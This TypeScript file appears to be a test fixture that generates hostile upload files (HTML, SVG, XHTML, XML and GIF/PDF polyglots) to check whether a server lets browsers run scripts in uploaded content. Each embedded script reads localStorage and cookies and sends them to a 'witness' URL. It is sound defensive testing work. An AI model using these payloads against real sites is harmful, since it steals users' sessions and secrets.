/** Files that run a script where a browser takes them for pages. The script tells `witness` where it runs and what it can reach. */

export interface HostileFile {
  readonly name: string;
  /** What the uploader says it is. */
  readonly contentType: string;
  /** With which a server that does not think has its script run. */
  readonly careless: string | undefined;
  readonly content: string;
}

/** `/ran?file=…&way=…&secret=…` at the witness; `way` comes from the URL of the page itself. */
const scriptOf = (file: string, witness: string): string => `
  let secret = 'none';
  try { secret = localStorage.getItem('secret') + document.cookie; } catch {}
  const way = new URLSearchParams(location.search).get('way');
  new Image().src = '${witness}/ran?' + new URLSearchParams({ file: '${file}', way, secret });
`;

export const EXTERNAL_SCRIPT = { path: '/external.js', file: 'external.html' };

export const externalScript = (witness: string): string => scriptOf(EXTERNAL_SCRIPT.file, witness);

export function hostileFiles(witness: string): HostileFile[] {
  const inline = (file: string) => `<script>//<![CDATA[\n${scriptOf(file, witness)}//]]>\n</script>`;
  const html = (file: string) => `<!doctype html><html><body>${inline(file)}</body></html>`;
  const xhtml = (file: string) => `<html xmlns="http://www.w3.org/1999/xhtml"><body>${inline(file)}</body></html>`;
  const own = (name: string, contentType: string, content: string): HostileFile => {
    return { name, contentType, careless: contentType, content };
  };
  return [
    own('inline.html', 'text/html', html('inline.html')),
    own(EXTERNAL_SCRIPT.file, 'text/html', `<!doctype html><script src="${witness}${EXTERNAL_SCRIPT.path}"></script>`),
    own('drawing.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${inline('drawing.svg')}</svg>`),
    own('page.xhtml', 'application/xhtml+xml', xhtml('page.xhtml')),
    own('page.xml', 'text/xml', xhtml('page.xml')),
    // Browsers look into what has no type, and what is shown in place is what they may be wrong about. No endings here:
    // by them they choose what an <embed> is, before they look.
    { name: 'notes.txt', contentType: 'text/plain', careless: undefined, content: html('notes.txt') },
    { name: 'unknown', contentType: '', careless: undefined, content: html('unknown') },
    { name: 'gif-and-page', contentType: 'image/gif', careless: 'text/html', content: `GIF89a${html('gif-and-page')}` },
    {
      name: 'pdf-and-page',
      contentType: 'application/pdf',
      careless: 'text/html',
      content: `%PDF-1.7\n${html('pdf-and-page')}`,
    },
  ];
}
